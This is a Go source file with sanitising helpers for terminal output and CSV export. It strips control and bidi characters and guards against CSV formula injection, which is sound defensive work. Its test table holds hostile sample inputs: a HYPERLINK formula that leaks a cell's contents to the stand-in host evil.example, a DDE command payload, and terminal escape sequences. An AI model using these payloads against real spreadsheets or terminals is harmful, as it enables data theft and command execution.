package cleantext

import (
	"strings"
	"unicode/utf8"
)

// Unprintable reports a rune that moves the cursor, starts a terminal
// escape sequence or reorders the text around it: every C0 control (tab,
// newline and CR included), DEL, every C1 control (U+0080 to U+009F,
// U+009B being a one-byte CSI), the line and paragraph separators, and the
// bidirectional embedding, override and isolate controls.
func Unprintable(r rune) bool {
	switch {
	case r < 0x20, r >= 0x7f && r <= 0x9f:
		return true
	case r == 0x2028, r == 0x2029: // line and paragraph separators
		return true
	case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069: // bidi controls
		return true
	}
	return false
}

// Line returns s fit to print on one line: valid UTF-8 (an invalid byte
// becomes U+FFFD) with every Unprintable rune a space. It returns s itself
// when s is clean.
func Line(s string) string {
	clean := true
	for _, r := range s {
		if r == utf8.RuneError || Unprintable(r) {
			clean = false
			break
		}
	}
	if clean {
		return s
	}
	return strings.Map(func(r rune) rune {
		if Unprintable(r) {
			return ' '
		}
		return r
	}, strings.ToValidUTF8(s, "\uFFFD"))
}

// UnprintableRE2 is the character class of Unprintable in RE2 syntax,
// the regular expressions of Go and of DuckDB: the SQL of analyze (the
// "printable" fragment of fragments.sql) writes it out, and the tests
// hold the three to one rule.
const UnprintableRE2 = `[\x00-\x1F\x7F-\x9F\x{2028}\x{2029}\x{202A}-\x{202E}\x{2066}-\x{2069}]`

// FormulaStarts are the first characters that make a spreadsheet read a
// cell as a formula (OWASP's CSV injection list; tab and CR, its two
// others, are spaces after Line).
const FormulaStarts = "=+-@"

// CSVCell is Line, then a leading single quote on a cell that starts with
// one of FormulaStarts.
func CSVCell(s string) string {
	s = Line(s)
	if s != "" && strings.ContainsRune(FormulaStarts, rune(s[0])) {
		return "'" + s
	}
	return s
}

// CSVCases are the rule's test table, input and the CSV cell it becomes:
// cleantext's test checks CSVCell against it, and analyze/export's runs
// every valid UTF-8 input through a real export (the SQL copy of the
// rule).
var CSVCases = []struct{ In, Want string }{
	{"plain", "plain"},
	{"", ""},
	{"12.5", "12.5"},
	{"=1+2", "'=1+2"},
	{"+1 is a formula", "'+1 is a formula"},
	{"-2", "'-2"},
	{"@SUM(A1)", "'@SUM(A1)"},
	{`=HYPERLINK("http://evil.example/?"&A3,"open")`, `'=HYPERLINK("http://evil.example/?"&A3,"open")`},
	{"\t=cmd|' /C calc'!A0", " =cmd|' /C calc'!A0"},
	{"\x1b]0;pwned\x07\x1b[2J=1+1", " ]0;pwned  [2J=1+1"},
	{"a\r\nb\x00c\x1b[0m", "a  b c [0m"},
	{"a\u202eb\u2028c\u009bd\re", "a b c d e"},
	{"x\u2066y\u2069z\u007f", "x y z "},
	{"\xff", "\uFFFD"},
	{"timeout after 1s", "timeout after 1s"},
}
